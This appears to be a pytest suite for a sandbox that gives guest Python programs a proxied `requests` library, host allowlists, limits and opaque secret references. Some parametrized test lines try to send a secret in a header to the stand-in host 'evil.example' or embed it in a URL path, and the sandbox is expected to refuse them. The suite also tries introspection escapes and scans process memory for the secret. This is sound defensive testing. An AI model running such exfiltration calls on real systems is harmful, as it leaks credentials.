"""`requests` and `self.secrets` as a Runnable sees them: a real guest, the real host side, a server here."""

from __future__ import annotations

import json
import re
from contextlib import AsyncExitStack
from pathlib import Path
from textwrap import indent
from typing import Any

import pytest

from processor.errors import Faults, ProcessorError
from processor.model import Failed, Limits, Program, Ran
from processor.sandbox import wire
from processor.sandbox.host import Guest, Zygote
from tests.web import Web, answer, outside, serving, to

CANARY = "K3Y/canary+1"


def program(body: str, imports: str = "import requests") -> str:
    return f"{imports}\nclass Runnable:\n    def process(self, queries):\n{indent(body, ' ' * 8)}\n"


class Route:
    """A guest with its outside."""

    def __init__(self, spawned: Any, one: Any, web: Web) -> None:
        self._spawned, self._one, self.web = spawned, one, web
        self.guest: Guest
        self.marks: dict[str, str] = {}

    async def run(
        self, source: str, *more: str, limits: dict[str, Any] | None = None, **settings: Any
    ) -> Any:
        """What a run of this program comes to; its one query is the URL of the server."""
        async with AsyncExitStack() as stack:
            secrets = {"k": (CANARY, [self.web.host])}
            calls = await stack.enter_async_context(
                outside(self.web.host, *more, names={}, secrets=secrets, **settings)
            )
            self.marks = dict(calls.secrets)
            self.guest = await stack.enter_async_context(
                self._spawned(source, calls.perform, secrets=calls.secrets, **(limits or {}))
            )
            return await self.guest.run([self._one(self.web.url)])

    async def result(self, body: str, *more: str, **settings: Any) -> Any:
        """The one output of a program whose `process` is `body`."""
        outcome = await self.run(program(body), *more, **settings)
        assert isinstance(outcome, Ran), outcome
        [output] = outcome.outputs
        return json.loads(output.body)

    async def failure(self, body: str, *more: str, **settings: Any) -> Any:
        outcome = await self.run(program(body), *more, **settings)
        assert isinstance(outcome, Failed), outcome
        return outcome.failure


@pytest.fixture
def route(spawned: Any, one: Any) -> Any:
    return lambda web: Route(spawned, one, web)


async def test_the_calls_of_the_library(route: Any) -> None:
    """Each method sends what people know it to send."""
    body = """
        url = queries[0]
        headers = {"X-A": "b", "x-a": "c", "Y": 5}
        requests.get(url + "/g", params={"a": [1, "x y"], "b": None}, headers=headers)
        requests.get(url + "/g?a=b", "c=d")
        requests.get(url, [("a", 1), ("a", 2)])
        requests.post(url, {"a": "b c", "d": [1, 2]})
        requests.post(url, data="text", headers={"content-type": "text/x"})
        requests.put(url, data=b"\\x00\\xff")
        requests.patch(url, json={"a": [1.5, None, "ü"]})
        requests.delete(url)
        requests.head(url)
        requests.options(url)
        requests.request("get", url, auth=("user", "pw"), timeout=(1, 2), allow_redirects=False)
        self.requests.get(url)
        return [1]
    """
    async with serving() as web:
        assert await route(web).result(re.sub("^ {8}", "", body, flags=re.M)) == 1
    said = [(asked.method, asked.target, asked.body) for asked in web.asked]
    assert said == [
        ("GET", "/g?a=1&a=x+y", b""), ("GET", "/g?a=b&c=d", b""), ("GET", "/?a=1&a=2", b""),
        ("POST", "/", b"a=b+c&d=1&d=2"), ("POST", "/", b"text"), ("PUT", "/", b"\x00\xff"),
        ("PATCH", "/", '{"a":[1.5,null,"ü"]}'.encode()), ("DELETE", "/", b""), ("HEAD", "/", b""),
        ("OPTIONS", "/", b""), ("GET", "/", b""), ("GET", "/", b""),
    ]  # fmt: skip
    headers = [asked.headers for asked in web.asked]
    assert (headers[0]["x-a"], headers[0]["y"]) == ("c", "5")
    assert headers[3]["content-type"] == "application/x-www-form-urlencoded"
    assert headers[4]["content-type"] == "text/x"
    assert "content-type" not in headers[5]
    assert headers[6]["content-type"] == "application/json"
    assert headers[10]["authorization"] == "Basic dXNlcjpwdw=="


async def test_an_answer_is_what_the_library_gives(route: Any) -> None:
    """Status, headers in any case, text in its encoding, bytes, JSON."""
    body = """
r = requests.get(queries[0] + "/a?b")
return [{
    "status": [r.status_code, r.ok, bool(r), r.reason, r.is_redirect],
    "url": r.url.partition("/a")[2],
    "headers": [r.headers["content-TYPE"], r.headers.get("none"), "X-Two" in r.headers, r.headers["x-two"]],
    "body": [r.text, len(r.content), r.encoding, r.json()["ü"]],
    "kinds": [type(r).__name__, repr(r), r.elapsed.total_seconds() >= 0, sorted(r.headers)],
    "raised": r.raise_for_status(),
}]
"""
    text = '{"ü": 12345678901234567890123}'
    said = answer(text.encode("latin-1"), Content_Type='application/json; charset="latin-1"', X_Two="a")
    said = said.replace(b"X-Two: a", b"X-Two: a\r\nX-Two: b")
    async with serving(lambda _: said) as web:
        failed = await route(web).failure(body)
        assert "JSONDecodeError" in failed.text  # the body is Latin-1, which is not JSON
        web.say = lambda _: (
            said.replace(text.encode("latin-1"), text.encode())
            .replace(b"Length: 30", b"Length: 31")
            .replace(b"latin-1", b"utf-8")
        )
        got = await route(web).result(body)
    assert got == {
        "status": [200, True, True, "Said", False],
        "url": "?b",
        "headers": ['application/json; charset="utf-8"', None, True, "a, b"],
        "body": [text, 31, "utf-8", 12345678901234567890123],
        "kinds": ["Response", "<Response [200]>", True, ["content-length", "content-type", "x-two"]],
        "raised": None,
    }


async def test_exceptions_have_the_names_and_the_order_of_the_library(route: Any, free_port: int) -> None:
    """Code with the library's except clauses works, and finds the answer on an HTTPError."""
    body = f"""
from requests.exceptions import RequestException
said = []
def tried(url, **options):
    try:
        requests.get(url, **options).raise_for_status()
    except requests.exceptions.HTTPError as err:
        said.append(["HTTPError", str(err).partition(" for ")[0], err.response.status_code])
    except requests.Timeout as err:
        said.append(["Timeout", isinstance(err, RequestException)])
    except requests.ConnectionError as err:
        said.append(["ConnectionError", isinstance(err, ConnectionError)])
    except requests.TooManyRedirects as err:
        said.append(["TooManyRedirects"])
    except requests.RequestException as err:
        said.append([type(err).__name__, err.code])
url = queries[0]
tried(url + "/404")
tried(url + "/slow", timeout=0.05)
tried("http://127.0.0.1:{free_port}")
tried(url + "/again")
tried("http://evil.example/")
tried("ftp://evil.example/")
tried("http://127.1/")
try:
    requests.get(url).json()
except ValueError as err:
    said.append([type(err).__name__, isinstance(err, RequestException)])
return [said]
"""

    def say(asked: Any) -> bytes | None:
        if asked.target == "/slow":
            return None
        return (
            to("/again")
            if asked.target == "/again"
            else answer(b"no", 404 if asked.target == "/404" else 200)
        )

    async with serving(say) as web:
        said = await route(web).result(body, f"127.0.0.1:{free_port}", redirects=1)
    assert said == [
        ["HTTPError", "404 Client Error: Said", 404], ["Timeout", True], ["ConnectionError", False],
        ["TooManyRedirects"], ["RequestException", "E325"], ["RequestException", "E317"],
        ["RequestException", "E317"], ["JSONDecodeError", True],
    ]  # fmt: skip


@pytest.mark.parametrize(
    "statement, code, text",
    [
        (
            "requests.get('http://evil.example/')",
            "E325",
            "evil.example is not an allowed host. To allow it: ",
        ),
        ("requests.get(queries[0] + '/x' * 600)", "E323", "outbound.request_bytes"),
        ("requests.get(queries[0])", "E323", "more than 1000 bytes (outbound.response_bytes)"),
        ("requests.post(queries[0], data=b'x' * (5 << 20))", "E323", "bytes long (limit 4194304)"),
        ("requests.get('http://evil.example/', headers={'a': self.secrets['k']})", "E325", "evil.example"),
        ("requests.get(queries[0] + f\"/{self.secrets['k']}\")", "E326", "the host or the path of a URL"),
        ("requests.get('nowhere')", "E317", "it must be http://"),
        ("requests.get('http://127.0.0.1:1')", "E317", "127.0.0.1:1: "),
        ("raise requests.HTTPError('mine')", "E317", "HTTPError: mine"),
    ],
)
async def test_what_is_not_caught_fails_the_run_with_its_code(
    route: Any, statement: str, code: str, text: str
) -> None:
    """The code says which rule it was, and the traceback shows the user's line and nothing of ours."""
    settings = {"request_bytes": 1000, "response_bytes": 1000}
    async with serving(lambda _: answer(b"x" * 2000)) as web:
        failed = await route(web).failure(statement, "127.0.0.1:1", **settings)
    assert failed.code == code, failed
    assert text in failed.text
    assert failed.traceback.count("File ") == 1
    assert statement in failed.traceback


async def test_a_code_of_ones_own_is_not_reported(route: Any) -> None:
    """A class that derives from ours may say what it likes; what a run failed with is one of the codes."""
    body = "raise Mine('x')"
    source = program(body, "import requests\nclass Mine(requests.RequestException):\n    code = 'E999'\n"
                           "    def __init__(self, text):\n        self.code = 'E501'\n")  # fmt: skip
    async with serving() as web:
        outcome = await route(web).run(source)
    assert outcome.failure.code == "E317"


@pytest.mark.parametrize(
    "option, why",
    [
        ("verify=False", "TLS is verified"), ("verify=True", "TLS is verified"),
        ("cert='a'", "no client certificates"),
        ("proxies={}", "the host connects directly"), ("trust_env=True", "is not looked at"),
        ("hooks={}", "look at the response"), ("files={}", "as `data`"),
        ("cookies={}", "Cookie header"), ("other=1", "the options are params, headers"),
    ],
)  # fmt: skip
async def test_an_option_that_we_do_not_take_is_refused_by_name(route: Any, option: str, why: str) -> None:
    """Nothing that weakens TLS or goes another way is accepted in silence; each has its sentence."""
    async with serving() as web:
        failed = await route(web).failure(f"requests.get(queries[0], {option})")
        assert not web.asked
    name = option.partition("=")[0]
    assert failed.text.startswith(f"TypeError: requests does not take '{name}' in a Runnable: ")
    assert why in failed.text


@pytest.mark.parametrize(
    "arguments, text",
    [
        ("7 + 0.5", "a URL is a text"), ("queries[0], headers={'a': object()}", "the header a is a text"),
        ("queries[0], params=5", "is not iterable"), ("queries[0], params=[1]", "a dict, or a list"),
        ("queries[0], auth='x'", "auth is a pair"), ("queries[0], timeout=0", "above 0"),
        ("queries[0], json={'a': object()}", "cannot be written as JSON"),
        ("queries[0], json=1, data='x'", "not both"),
        ("queries[0], json=float('nan')", "not JSON compliant"),
    ],
)  # fmt: skip
async def test_a_mistake_in_a_call_is_the_users_exception(route: Any, arguments: str, text: str) -> None:
    """It is raised at the user's line, before anything is asked of the host."""
    async with serving() as web:
        failed = await route(web).failure(f"requests.request('GET', {arguments})")
    assert (failed.code, text in failed.text) == ("E304", True), failed.text


async def test_requests_over_the_limit_are_refused(route: Any) -> None:
    """limits.requests is for one message, whatever was caught in it; when it runs again it may ask again."""
    body = """
count = 0
for n in range(5):
    try:
        self.requests.get(queries[0])
        count += 1
    except requests.RequestException as err:
        assert err.code == "E322"
return [count]
"""
    async with serving() as web:
        assert await route(web).result(body, limits={"requests": 3}) == 3
        failed = await route(web).failure(
            "for n in range(5): requests.get(queries[0])", limits={"requests": 3}
        )
        assert failed.code == "E322"
        assert "more than 3 requests for one message (limits.requests)" in failed.text


async def test_no_calls_while_a_program_is_loaded(route: Any) -> None:
    """The module level runs for every check and every reload; it asks nobody."""
    async with serving() as web:
        with pytest.raises(Exception, match=r"E206 .*no calls while the program is loaded"):
            await route(web).run(
                "import requests\nrequests.get('http://a.example/')\n" + program("return []")
            )


async def test_a_secret_is_a_reference(route: Any) -> None:
    """It can be named, put into a text, and sent; it has no value, and an unknown one is an error."""
    body = """
k = self.secrets["k"]
r = requests.get(
    queries[0], params={"q": k}, headers={"A": k, "B": f"Bearer {k}", "C": "x" + k + "y", "D": f"{k:>80}"}
)
r2 = requests.post(queries[0], json={"a": [k]})
r3 = requests.post(queries[0], data={"a": k}, auth=("user", k))
try:
    self.secrets["other"]
except KeyError as err:
    unknown = str(err)
return [{
    "repr": [repr(k), repr(self.secrets), list(self.secrets), "k" in self.secrets, self.secrets.get("x")],
    "unknown": unknown, "texts": [r.text, r2.text, r3.text], "mark": str(k) == f"{k}" == k + "" == "" + k,
}]
"""
    async with serving(lambda asked: answer(asked.raw + asked.body)) as web:
        got = await route(web).result(body)
    first, second, third = web.asked
    assert first.target == "/?q=K3Y%2Fcanary%2B1"
    assert [first.headers[name] for name in "abcd"] == [CANARY, f"Bearer {CANARY}", f"x{CANARY}y", CANARY]
    assert second.body == b'{"a":["K3Y/canary+1"]}'
    assert third.body == b"a=K3Y%2Fcanary%2B1"
    assert got["repr"] == ["<secret k>", "<secrets k>", ["k"], True, None]
    assert "'other' is no secret of this route; it has k" in got["unknown"]
    assert got["mark"] is True
    assert [text.count("***") for text in got["texts"]] == [5, 1, 2]


@pytest.mark.parametrize(
    "body, code",
    [
        ("return [{'a': self.secrets['k']}]", "E306"),
        ("self.event('e', {'a': self.secrets['k']})", "E306"),
        ("self.context['a'] = self.secrets['k']", "E309"),
    ],
)
async def test_a_reference_is_not_written_down(route: Any, body: str, code: str) -> None:
    """An output, an event or the context that holds one is refused by its type."""
    async with serving() as web:
        failed = await route(web).failure(body)
    assert failed.code == code, failed
    assert "Secret" in failed.text


@pytest.mark.parametrize(
    "expression", ["k._mark", "k.__str__.__self__", "vars(k)", "k.__slots__", "requests.get.__closure__"]
)
async def test_there_is_nothing_behind_a_reference(spawned: Any, one: Any, expression: str) -> None:
    """The language leads no further than the mark, which is not secret."""
    source = program(f"k = self.secrets['k']\nreturn [str({expression})]")
    try:
        async with spawned(source, secrets={"k": "m"}) as guest:
            outcome = await guest.run([one({})])
    except Faults:
        return
    assert outcome.failure.code == "E304"


async def test_a_mark_in_the_data_of_a_message_is_a_text(route: Any) -> None:
    """Who writes messages does not know the marks, and a text that looks like one stays a text."""
    forged = "secret.k." + "0" * 32
    async with serving() as web:
        got = await route(web).result(f"return [requests.get(queries[0], headers={{'a': '{forged}'}}).text]")
    assert web.asked[0].headers["a"] == forged
    assert forged in got


async def test_the_value_is_never_in_the_guests_memory(route: Any, spawned: Any, one: Any) -> None:
    """After a request that carried it and an answer that repeated it, no page of the guest has it."""
    send = "r = requests.post(queries[0], json={'a': self.secrets['k']})"
    body = f"{send}\nself.context['r'] = r.text\nreturn [r.text]"
    async with serving(lambda asked: answer(asked.body)) as web:
        secrets = {"k": (CANARY, [web.host])}
        async with outside(web.host, secrets=secrets) as calls:
            frames: list[Any] = []

            async def perform(name: str, args: dict[str, Any]) -> Any:
                said = await calls.perform(name, args)
                frames.append((args, said))
                return said

            async with spawned(program(body), perform, secrets=calls.secrets) as guest:
                outcome = await guest.run([one(web.url)])
                assert web.asked[0].body == b'{"a":"K3Y/canary+1"}'
                assert CANARY not in f"{outcome!r} {frames!r}"
                found = memory_of(guest.pid, [CANARY.encode(), calls.secrets["k"].encode()])
                assert found is None or found == [False, True]  # the mark shows that the search finds texts


def memory_of(pid: int, needles: list[bytes]) -> list[bool] | None:
    """Whether the process's memory holds these; None where we may not read it."""
    found = [False] * len(needles)
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line:
                    memory.seek(start)
                    data = memory.read(end - start)
                    found = [old or needle in data for old, needle in zip(found, needles, strict=True)]
    except OSError:
        return None
    return found


async def test_the_helpers_of_the_state_api(spawned: Any, one: Any) -> None:
    """Their names are the original ones, and their rows are what pivot_list_of_dicts takes."""
    source = """
class Runnable:
    def process(self, queries):
        filters = [{"column": "animal", "operator": "=", "value": "cat"}]
        rows = self.query_state_data("s1", filters)
        self.call_api_query("s1", "u1", filters)
        return self.pivot_list_of_dicts(rows)
"""
    asked = []

    async def perform(name: str, arguments: dict[str, Any]) -> Any:
        asked.append((name, arguments))
        return [
            {"column_name": "animal", "data_value": "cat", "data_index": 0},
            {"column_name": "age", "data_value": 3, "data_index": 0},
            {"column_name": "animal", "data_value": "cat", "data_index": 7},
        ]

    async with spawned(source, perform) as guest:
        outcome = await guest.run([one({})])
    filters = [{"column": "animal", "operator": "=", "value": "cat"}]
    assert asked == [
        ("state_data", {"state_id": "s1", "filters": filters}),
        ("state_data", {"state_id": "s1", "user_id": "u1", "filters": filters}),
    ]
    assert [json.loads(output.body) for output in outcome.outputs] == [
        {"animal": "cat", "age": 3},
        {"animal": "cat"},
    ]


async def test_a_refusal_of_another_kind_is_e317(spawned: Any, one: Any) -> None:
    """A guest gets none of the codes that are not about its call."""

    async def perform(name: str, arguments: dict[str, Any]) -> Any:
        raise ProcessorError("E107", "a file is gone")

    async with spawned(program("requests.get('http://a.example/')"), perform) as guest:
        outcome = await guest.run([one({})])
    assert outcome.failure.code == "E317"
    assert "a file is gone" in outcome.failure.text


# The wall itself.


def arrived(frame: bytes) -> wire.Frame:
    [read] = wire.Splitter(0xFFFFFFFF).feed(frame)
    return read


def test_bytes_cross_beside_a_call_and_its_answer() -> None:
    """A body is not JSON, and is not written as JSON."""
    call = wire.read_call(arrived(wire.write_call(1, 7, 4, "requests", b'{"a": 1}', b"\x00\xff")), 7, 5)
    assert call == (4, "requests", {"a": 1, "body": b"\x00\xff"})
    answer = arrived(wire.write_answer(1, 7, wire.Attached({"b": 2}, b"\xff")))
    assert list(answer.blobs) == [b'{"b":2}', b"\xff"]


@pytest.mark.parametrize(
    "blobs",
    [
        [], [b"{}", b"", b""], [b"{" + b" " * wire.CALL_BYTES + b"}", b""], [b"{}", b"x" * wire.BODY_BYTES],
        [b"[]", b""], [b"{", b""],
    ],
)  # fmt: skip
def test_a_call_with_too_much_beside_it_is_a_violation(blobs: list[bytes]) -> None:
    """What no honest guest sends costs it its life."""
    with pytest.raises(wire.Violation):
        wire.read_call(arrived(wire.pack(1, {"call": "requests", "id": 1, "group": 0}, blobs)), 1, 1)


def test_a_refusal_has_a_code_that_a_guest_may_have() -> None:
    """Any other is told as E317, and a sentence is cut where it is too long."""
    for code in ("E317", "E322", "E323", "E325", "E326"):
        header = arrived(wire.write_refusal(1, 7, code, "why")).header
        assert header == {"answer": 7, "refused": "why", "code": code}
    assert arrived(wire.write_refusal(1, 7, "E107", "x" * 9000 + "\ud800")).header == {
        "answer": 7,
        "refused": "x" * wire.TEXT_CHARS,
        "code": "E317",
    }


async def test_plain_python_asks_in_the_same_way(spawned: Any, one: Any) -> None:
    """`import requests` in plain Python is the same module, with the same secrets."""
    source = """
import requests
from requests.exceptions import RequestException
class Runnable:
    def process(self, queries):
        assert requests is self.requests
        try:
            requests.get("http://evil.example/")
        except RequestException as err:
            answer = requests.get(queries[0], headers={"key": self.secrets["k"]})
            return [[err.code, answer.status_code]]
"""
    async with serving() as web, outside(web.host, secrets={"k": (CANARY, [web.host])}) as calls:
        zygote = await Zygote.start()
        try:
            program = Program(source, "runnable.py", language="python")
            guest = await zygote.spawn(program, Limits(), perform=calls.perform, secrets=calls.secrets)
            outcome = await guest.run([one(web.url)])
        finally:
            await zygote.close()
    assert [output.body for output in outcome.outputs] == [b'["E325",200]'], outcome
    assert web.asked[0].headers["key"] == CANARY
